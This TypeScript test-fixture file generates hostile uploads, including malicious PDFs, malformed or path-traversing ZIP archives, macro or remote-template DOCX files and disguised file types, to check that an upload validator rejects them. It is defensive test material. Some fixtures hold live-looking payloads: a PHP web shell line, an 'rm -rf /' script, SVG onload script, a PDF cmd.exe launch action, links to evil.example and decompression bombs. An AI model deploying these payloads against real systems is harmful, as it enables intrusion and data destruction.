// Hostile documents and files that only pretend to be one of the kinds that are taken.
import { deflateRawSync, deflateSync } from 'node:zlib';
import type { UploadFault } from '../../../nodes/attachments/refusals.ts';
import { docx, pdf, type ZipEntry, type ZipOptions, zip } from './documents.ts';
import type { HostileFile } from './hostile-photos.ts';
import { secret } from './hostile-photos.ts';
import { gif, jpeg, png } from './pictures.ts';

const secretBytes = Buffer.from(secret);
const text = Buffer.from('some text');

export function hostilePdfs(): HostileFile[] {
  const damagedPdf = (what: string, bytes: Buffer): HostileFile => ({
    what: `PDF ${what}`,
    bytes,
    expected: 'damaged-file',
  });
  const active = (what: string, ...objects: (string | Buffer)[]): HostileFile => ({
    what: `PDF with ${what}`,
    bytes: pdf({ objects }),
    expected: 'dangerous-file',
  });
  const stream = (dictionary: string, body: Buffer) =>
    Buffer.concat([
      Buffer.from(`<< ${dictionary} /Length ${body.length} >>\nstream\n`),
      body,
      Buffer.from('\nendstream'),
    ]);
  const hidden = Buffer.from('5 0 << /S /JavaScript /JS (app.alert(1)) >>');
  const far = `% ${'x'.repeat(65_530)}\n`;
  return [
    active('a script', '<< /S /JavaScript /JS (app.alert(1)) >>'),
    active('a script in codes', '<< /S /J#61vaScript /JS (app.alert(1)) >>'),
    active('a script all in codes', '<< /S /#4a#61#76#61#53#63#72#69#70#74 >>'),
    active('a script between two pieces', far, '<< /S /JavaScript >>'),
    ...[65_440, 65_460, 65_470, 65_480, 65_490].map((length) =>
      active(`a script ${length} bytes in`, `% ${'x'.repeat(length - 100)}\n<< /S /JavaScript >>`),
    ),
    active('a program to start', '<< /S /Launch /F (cmd.exe) >>'),
    active('an embedded file', '<< /Type /EmbeddedFile >>'),
    active('embedded files by name', '<< /EmbeddedFiles 9 0 R >>'),
    active('a film with programs', '<< /Type /Annot /Subtype /RichMedia >>'),
    active('a form of XML', '<< /XFA [ (a) 5 0 R ] >>'),
    active('a form that sends itself', '<< /S /SubmitForm /F (http://evil.example) >>'),
    active('an action that fetches data', '<< /S /ImportData /F (x) >>'),
    active('a way to an embedded file', '<< /S /GoToE >>'),
    active(
      'a script in packed objects',
      stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(hidden)),
    ),
    active(
      'a script in packed objects, named in codes',
      stream('/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode', deflateSync(hidden)),
    ),
    active(
      'packed objects in an unusual way',
      stream(
        '/Type /ObjStm /N 1 /Filter [/ASCIIHexDecode /FlateDecode]',
        Buffer.from(deflateSync(hidden).toString('hex')),
      ),
    ),
    active(
      'packed objects with a predictor',
      stream('/Type /ObjStm /N 1 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>', deflateSync(hidden)),
    ),
    { what: 'PDF that is encrypted', bytes: pdf({ trailer: '/Encrypt 5 0 R ' }), expected: 'dangerous-file' },
    {
      what: 'PDF with packed objects that are a bomb',
      bytes: pdf({
        objects: [stream('/Type /ObjStm /N 1 /Filter /FlateDecode', deflateSync(Buffer.alloc(140_000_000, 32)))],
      }),
      expected: 'archive-too-large',
    },
    damagedPdf(
      'with packed objects that are none',
      pdf({ objects: [stream('/Type /ObjStm /N 1 /Filter /FlateDecode', secretBytes)] }),
    ),
    {
      what: 'PDF that is an archive as well',
      bytes: pdf({ objects: [stream('', zip([{ name: 'run.js', body: secretBytes }]))] }),
      expected: 'dangerous-file',
    },
    damagedPdf('with an archive behind it', Buffer.concat([pdf(), zip([{ name: 'a.js', body: secretBytes }])])),
    damagedPdf('with a web page behind it', Buffer.concat([pdf(), secretBytes])),
    damagedPdf('without an end', pdf({ tail: '' })),
    damagedPdf('without a table of contents', pdf({ startxref: 3 })),
    damagedPdf('whose table of contents is behind it', pdf({ startxref: 99_999_999 })),
    damagedPdf('of version 9', pdf({ header: '%PDF-9.9\n' })),
    damagedPdf('that is a header and a web page', Buffer.from(`%PDF-1.4\n${secret}`)),
    damagedPdf('that ends in its middle', pdf({ objects: ['(x)'] }).subarray(0, 90)),
    { what: 'PDF behind a web page', bytes: Buffer.concat([secretBytes, pdf()]), expected: 'unknown-file-type' },
    { what: 'PDF in a picture', bytes: Buffer.concat([gif(), pdf()]), expected: 'harmless' },
  ];
}

export function hostileArchives(): HostileFile[] {
  const made = (
    what: string,
    expected: UploadFault,
    entries: readonly ZipEntry[],
    options?: ZipOptions,
  ): HostileFile => ({
    what: `ZIP ${what}`,
    bytes: zip(entries, options),
    expected,
  });
  const named = (name: string) =>
    made(`with the name ${JSON.stringify(name)}`, 'dangerous-file', [{ name, body: text }]);
  const says = (what: string, expected: UploadFault, entry: Partial<ZipEntry>) =>
    made(what, expected, [{ name: 'a.txt', body: text, ...entry }]);
  const relation = (type: string, mode = 'External') =>
    Buffer.from(
      `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/x" TargetMode="${mode}"/></Relationships>`,
    );
  const document = (what: string, more: readonly ZipEntry[], types?: Buffer): HostileFile => ({
    what: `DOCX ${what}`,
    bytes: docx(more, types),
    expected: 'dangerous-file',
  });
  const unicodePath = (name: string) => {
    const field = Buffer.alloc(9 + Buffer.byteLength(name));
    field.writeUInt16LE(0x7075, 0);
    field.writeUInt16LE(field.length - 4, 2);
    field[4] = 1;
    field.write(name, 9);
    return field;
  };
  const two: readonly ZipEntry[] = [
    { name: 'a.txt', body: Buffer.alloc(500, 65), stored: true },
    { name: 'b.txt', body: Buffer.alloc(500, 66), stored: true },
  ];
  return [
    ...[
      '../evil.txt',
      'a/../../evil.txt',
      '..',
      '/etc/passwd',
      'C:/evil.txt',
      'c:evil.txt',
      'a\\b.txt',
      '..\\evil.txt',
      'a//b.txt',
      'a\0.txt',
      'a\n.txt',
      '\u007f.txt',
    ].map(named),
    named(`${'a'.repeat(300)}.txt`),
    says('with a link', 'dangerous-file', { says: { mode: 0o120777 } }),
    says('with a device', 'dangerous-file', { says: { mode: 0o060644 } }),
    says('with a pipe', 'dangerous-file', { says: { mode: 0o010644 } }),
    says('with an encrypted entry', 'dangerous-file', { says: { flags: 0x0801 } }),
    says('with a strongly encrypted entry', 'dangerous-file', { says: { flags: 0x0841 } }),
    says('with a hidden directory', 'dangerous-file', { says: { flags: 0x2800 } }),
    says('packed with LZMA', 'damaged-file', { says: { method: 14 } }),
    says('packed with AES', 'damaged-file', { says: { method: 99 } }),
    says('with a wrong checksum', 'damaged-file', { says: { checksum: 1 } }),
    says('that says it unpacks to less', 'damaged-file', { says: { unpacked: 3 } }),
    says('that says it unpacks to more', 'damaged-file', { says: { unpacked: 30 } }),
    says('that says it is packed to more', 'damaged-file', { says: { packed: 5_000 } }),
    says('with data behind the packed data', 'damaged-file', {
      packed: Buffer.concat([deflateRawSync(text), secretBytes]),
    }),
    says('with broken packed data', 'damaged-file', { packed: secretBytes }),
    says('with a stored entry of two sizes', 'damaged-file', { stored: true, says: { unpacked: 5 } }),
    says('whose entry has another name in front of it', 'damaged-file', { localName: 'b.txt' }),
    says('whose entry has another way of packing in front of it', 'damaged-file', { local: { method: 0 } }),
    says('whose entry has another size in front of it', 'damaged-file', { local: { unpacked: 5 } }),
    says('whose entry has another checksum in front of it', 'damaged-file', { local: { checksum: 5 } }),
    says('with an entry that is not there', 'damaged-file', { says: { at: 500 } }),
    says('with something behind an entry', 'damaged-file', { behind: secretBytes }),
    says('with an entry on another disk', 'damaged-file', { says: { disk: 1 } }),
    made('with a folder that has content', 'damaged-file', [{ name: 'a/', body: text }]),
    made('with two entries of one name', 'dangerous-file', [
      { name: 'a', body: text },
      { name: 'a', body: text },
    ]),
    made('with two entries that are one on Windows', 'dangerous-file', [
      { name: 'A.txt', body: text },
      { name: 'a.txt', body: text },
    ]),
    made('whose entries lie upon each other', 'dangerous-file', [
      ...two.slice(0, 1),
      { ...two[1], name: 'b.txt', says: { at: 0 } },
    ]),
    made(
      'with 2,001 entries',
      'dangerous-file',
      Array.from({ length: 2_001 }, (_, index) => ({ name: `${index}` })),
    ),
    made('that is a bomb', 'archive-too-large', [{ name: 'zeros', body: Buffer.alloc(20_000_000) }]),
    made(
      'that is a bomb in many pieces',
      'archive-too-large',
      Array.from({ length: 90 }, (_, index) => ({ name: `${index}`, body: Buffer.alloc(3_000_000) })),
    ),
    made('that says 4 GB', 'archive-too-large', [{ name: 'zeros', body: text, says: { unpacked: 0xfffffff0 } }]),
    made('that says little and unpacks to 50 MB', 'damaged-file', [
      { name: 'zeros', body: Buffer.alloc(50_000_000), says: { unpacked: 1_000_000 }, local: { unpacked: 1_000_000 } },
    ]),
    made('with a comment', 'damaged-file', two, { comment: secretBytes }),
    made('with a web page behind it', 'damaged-file', two, { behind: secretBytes }),
    made('with something before its directory', 'damaged-file', two, { beforeDirectory: secretBytes }),
    made('without entries', 'unknown-file-type', []),
    made('of several parts', 'damaged-file', two, { end: (end) => end.writeUInt16LE(1, 4) }),
    made('that counts wrong', 'damaged-file', two, {
      end: (end) => {
        end.writeUInt16LE(1, 8);
        end.writeUInt16LE(1, 10);
      },
    }),
    made('that counts more', 'damaged-file', two, {
      end: (end) => {
        end.writeUInt16LE(9, 8);
        end.writeUInt16LE(9, 10);
      },
    }),
    made('of the large kind', 'damaged-file', two, { end: (end) => end.writeUInt32LE(0xffffffff, 16) }),
    made('whose directory is elsewhere', 'damaged-file', two, { end: (end) => end.writeUInt32LE(4, 16) }),
    made('with a huge directory', 'damaged-file', two, { end: (end) => end.writeUInt32LE(0x7fffffff, 12) }),
    {
      what: 'ZIP behind a program',
      bytes: zip(two, { before: Buffer.from(`MZ${secret}`) }),
      expected: 'unknown-file-type',
    },
    { what: 'ZIP that is cut', bytes: zip(two).subarray(0, 900), expected: 'damaged-file' },
    {
      what: 'ZIP that is a signature and a web page',
      bytes: Buffer.concat([Buffer.from('PK\x03\x04'), secretBytes]),
      expected: 'damaged-file',
    },
    says('with another name in an extra field', 'dangerous-file', { extra: unicodePath('../evil.txt') }),
    says('with another name in an extra field before its data', 'dangerous-file', {
      localExtra: unicodePath('/etc/evil'),
    }),
    document('that fetches its template, spelt out', [
      {
        name: 'word/_rels/settings.xml.rels',
        body: Buffer.from(String(relation('attachedTemplate')).replace('attached', '&#97;ttached')),
      },
    ]),
    document('that fetches its template, in single quotes', [
      {
        name: 'word/_rels/settings.xml.rels',
        body: Buffer.from(String(relation('attachedTemplate')).replaceAll('"', "'")),
      },
    ]),
    document('that fetches its template, in another encoding', [
      { name: 'word/_rels/settings.xml.rels', body: Buffer.from(String(relation('attachedTemplate')), 'utf16le') },
    ]),
    document(
      'with macros under another name',
      [{ name: 'word/notes.bin', body: text }],
      Buffer.from('<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
    ),
    document('with macros', [{ name: 'word/vbaProject.bin', body: text }]),
    document(
      'that calls itself one with macros',
      [],
      Buffer.from('<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
    ),
    document('that fetches its template', [
      { name: 'word/_rels/settings.xml.rels', body: relation('attachedTemplate') },
    ]),
    document('that fetches an object', [{ name: 'word/_rels/document.xml.rels', body: relation('oleObject') }]),
    document('that fetches a frame', [{ name: 'word/_rels/webSettings.xml.rels', body: relation('frame') }]),
    document('with an embedded program', [{ name: 'word/embeddings/oleObject1.bin', body: text }]),
    document('with a control', [{ name: 'word/activeX/activeX1.xml', body: text }]),
    {
      what: 'table with macros',
      bytes: zip([
        { name: '[Content_Types].xml', body: text },
        { name: 'xl/vbaProject.bin', body: text },
      ]),
      expected: 'dangerous-file',
    },
  ];
}

export function pretenders(): HostileFile[] {
  const other = (what: string, bytes: Buffer | string, name = 'photo.png'): HostileFile => ({
    what,
    bytes: typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes,
    expected: 'unknown-file-type',
    name,
  });
  return [
    other('SVG', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${secret}</svg>`, 'a.svg'),
    other('SVG called a PNG', `<svg xmlns="http://www.w3.org/2000/svg">${secret}</svg>`),
    other('SVG behind XML and spaces', `   <?xml version="1.0"?>\n<!-- x --><svg>${secret}</svg>`),
    other('web page called a JPEG', `<!DOCTYPE html><html>${secret}</html>`, 'photo.jpg'),
    other('web page behind a byte order mark', `\xef\xbb\xbf<html>${secret}</html>`),
    other('script called a GIF', 'alert(1)', 'photo.gif'),
    other('Windows program', `MZ\x90\0${secret}`, 'photo.exe'),
    other('Windows program called a PDF', `MZ\x90\0${secret}`, 'manual.pdf'),
    other('Linux program', `\x7fELF${secret}`),
    other('shell script', '#!/bin/sh\nrm -rf /\n'),
    other('PHP program', '<?php system($_GET["c"]); ?>'),
    other('HEIC photo', '\0\0\0\x18ftypheic\0\0\0\0', 'IMG_1.HEIC'),
    other('AVIF picture', '\0\0\0\x18ftypavif\0\0\0\0'),
    other('BMP picture', 'BM\x36\0\0\0\0\0\0\0'),
    other('TIFF picture', 'II*\0\x08\0\0\0'),
    other('icon', '\0\0\x01\0\x01\0'),
    other('film', '\0\0\0\x18ftypmp42\0\0\0\0'),
    other('RAR archive', 'Rar!\x1a\x07\x01\0'),
    other('7z archive', "7z\xbc\xaf'\x1c"),
    other('gzip file', '\x1f\x8b\x08\0'),
    other('old Word document', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'a.doc'),
    other('rich text', '{\\rtf1}'),
    other('link to a program', 'L\0\0\0\x01\x14\x02\0'),
    other('text', 'hello'),
    other('a single byte', 'P'),
    other('the half of a signature', '\x89PNG'),
    other('PNG behind a space', Buffer.concat([Buffer.from(' '), png()])),
    other('JPEG behind a line end', Buffer.concat([Buffer.from('\n'), jpeg()])),
    { what: 'JPEG of two bytes', bytes: Buffer.from([0xff, 0xd8]), expected: 'unknown-file-type' },
    { what: 'nothing', bytes: Buffer.alloc(0), expected: 'damaged-file', name: 'photo.png' },
  ];
}
